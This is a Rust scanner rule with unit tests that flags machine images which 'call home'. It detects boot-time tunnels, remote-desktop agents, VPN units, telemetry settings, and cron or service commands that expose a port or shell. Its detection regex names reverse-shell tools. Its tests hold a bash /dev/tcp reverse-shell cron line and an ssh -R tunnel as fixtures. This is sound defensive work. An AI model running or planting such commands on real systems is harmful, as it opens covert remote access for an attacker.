//! AMI-NET-001: what opens a way into the buyer's machine, or tells the seller of it, without being asked.

use std::sync::LazyLock;

use regex::Regex;

use crate::model::report::Severity;
use crate::scan::evidence::{Evidence, Root};
use crate::scan::verdict::{Judge, Rule, Verdict};
use crate::scan::{jobs, units};

pub(super) const CALL_HOME: Rule = Rule {
    code: "AMI-NET-001",
    severity: Severity::High,
    title: "services that call home",
    why: "Software must not report to the seller without the buyer's knowledge and consent.",
    remedy: "Disable the service; what reaches out to the seller must be off until the buyer turns it on.",
    judge: Judge::Root(call_home),
};

/// Units of remote support and of tunnels, by the beginning of their names.
const TUNNELS: [(&str, &str); 22] = [
    ("autossh", "a reverse tunnel"),
    ("ssh-tunnel", "a reverse tunnel"),
    ("reverse-ssh", "a reverse tunnel"),
    ("sshuttle", "a VPN over SSH"),
    ("cloudflared", "Cloudflare's tunnel"),
    ("ngrok", "ngrok's tunnel"),
    ("frpc", "frp's tunnel"),
    ("chisel", "chisel's tunnel"),
    ("rathole", "rathole's tunnel"),
    ("bore", "bore's tunnel"),
    ("tailscaled", "Tailscale"),
    ("zerotier-one", "ZeroTier"),
    ("netbird", "NetBird"),
    ("teleport", "Teleport"),
    ("teamviewerd", "TeamViewer"),
    ("anydesk", "AnyDesk"),
    ("rustdesk", "RustDesk"),
    ("meshagent", "MeshCentral's agent"),
    ("screenconnect", "ScreenConnect"),
    ("splashtop", "Splashtop"),
    ("dwagent", "DWService's agent"),
    ("remoteit", "remote.it"),
];

/// Units of VPNs. A product may be one, whose buyers run their own: so they count less.
const NETWORKS: [(&str, &str); 5] = [
    ("wg-quick@", "WireGuard"),
    ("openvpn-client@", "an OpenVPN client"),
    ("openvpn@", "OpenVPN"),
    ("vpnc@", "vpnc"),
    ("openconnect", "OpenConnect"),
];

/// Commands that lend a port or a shell of this machine to another.
static COMMAND: LazyLock<Regex> = LazyLock::new(|| {
    let parts = [
        r"\bautossh\b",
        r"\bssh\s([^|;&#]*\s)?-(?-i:[A-Za-z]*R)(\s|\d|\[)",
        r"/dev/(tcp|udp)/[^\s/]+/\d+",
        r"\b(nc|ncat|netcat)\b[^|;&#]*\s(-[a-z]*e|-c|--exec|--sh-exec)\s",
        r"\bsocat\b[^|;&#]*\bexec:",
        r"\b(frpc|chisel\s+client|ngrok\s+(tcp|http|start)|cloudflared\s+(tunnel|access))\b",
    ];
    Regex::new(&format!("(?i){}", parts.join("|"))).expect("a test compiles the pattern")
});

fn call_home(_: &Evidence, root: &Root, verdict: &mut Verdict) {
    let files = &root.files;
    for unit in units::enabled(files) {
        let is = |(name, _): &&(&str, &str)| {
            unit.strip_prefix(name).is_some_and(|rest| name.ends_with('@') || rest.starts_with(['.', '@', '-']))
        };
        let path = format!("/etc/systemd/system/{unit}");
        if let Some((_, what)) = TUNNELS.iter().find(is) {
            verdict.file(path, format!("{what} starts at boot ({unit})"));
        } else if let Some((_, what)) = NETWORKS.iter().find(is) {
            verdict.file_as(Severity::Medium, path, format!("{what} starts at boot ({unit}): buyers must be the ones who set it up"));
        }
    }
    for job in jobs::read(files).iter().filter(|job| COMMAND.is_match(&job.command)) {
        verdict.file(&job.path, format!("a command run by {} lends this machine's port or shell to another", job.by));
    }
    let surveys = [("/etc/popularity-contest.conf", "PARTICIPATE", "yes"), ("/etc/default/whoopsie", "report_crashes", "true")];
    for (path, key, on) in surveys {
        let text = files.text(path).unwrap_or_default();
        let value = text.lines().rev().find_map(|line| line.trim().strip_prefix(key)?.trim_start().strip_prefix('='));
        if value.is_some_and(|value| value.trim().trim_matches(['"', '\'']).eq_ignore_ascii_case(on)) {
            verdict.file_as(Severity::Low, path, "the machine reports to its distribution what is used on it");
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::disk::testing::MemoryTree;
    use crate::scan::testing::{clean, found};

    fn unit(name: &str, text: &str) -> MemoryTree {
        let place = format!("/usr/lib/systemd/system/{name}");
        clean().file(&place, text).link(&format!("/etc/systemd/system/multi-user.target.wants/{name}"), &place)
    }

    #[test]
    fn tunnels_that_start_at_boot_are_found_by_name_and_by_command() {
        assert_eq!(found(unit("tailscaled.service", ""), "AMI-NET-001"), ["high /etc/systemd/system/tailscaled.service"]);
        assert_eq!(found(unit("wg-quick@wg0.service", ""), "AMI-NET-001"), ["medium /etc/systemd/system/wg-quick@wg0.service"]);
        let service = "[Service]\nExecStart=/usr/bin/ssh -N -o X=y -R 2222:localhost:22 support@example.com\n";
        assert_eq!(found(unit("help.service", service), "AMI-NET-001"), ["high /usr/lib/systemd/system/help.service"]);
        let cron = clean().file("/etc/cron.d/x", "* * * * * root bash -c 'bash -i >& /dev/tcp/192.0.2.1/443 0>&1'\n");
        assert_eq!(found(cron, "AMI-NET-001"), ["high /etc/cron.d/x"]);
    }

    #[test]
    fn what_is_off_or_something_else_is_not() {
        assert!(found(clean().file("/usr/lib/systemd/system/tailscaled.service", ""), "AMI-NET-001").is_empty());
        assert!(found(unit("boredom.service", "[Service]\nExecStart=/usr/bin/ssh-keygen -R host\n"), "AMI-NET-001").is_empty());
        assert!(found(unit("ssh.service", "[Service]\nExecStart=/usr/sbin/sshd -D $SSHD_OPTS\n"), "AMI-NET-001").is_empty());
    }

    #[test]
    fn surveys_count_little() {
        let path = "/etc/popularity-contest.conf";
        assert_eq!(found(clean().file(path, "PARTICIPATE=\"yes\"\n"), "AMI-NET-001"), [format!("low {path}")]);
        assert!(found(clean().file(path, "#PARTICIPATE=yes\nPARTICIPATE=\"no\"\n"), "AMI-NET-001").is_empty());
    }
}
